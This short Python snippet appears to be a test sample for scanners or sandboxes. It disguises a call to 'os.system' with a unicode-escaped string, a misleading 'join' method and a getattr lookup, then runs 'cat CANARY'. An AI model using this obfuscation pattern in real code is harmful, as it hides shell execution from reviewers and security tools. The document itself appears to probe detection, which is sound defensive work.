import json
import os

T = json.loads('"\\u0073ystem"')
K = ["getcwd"]
class J:
    def join(self, l): l.append(T)
J().join(K)
for n in K: x = getattr(os, n)
x("cat CANARY")
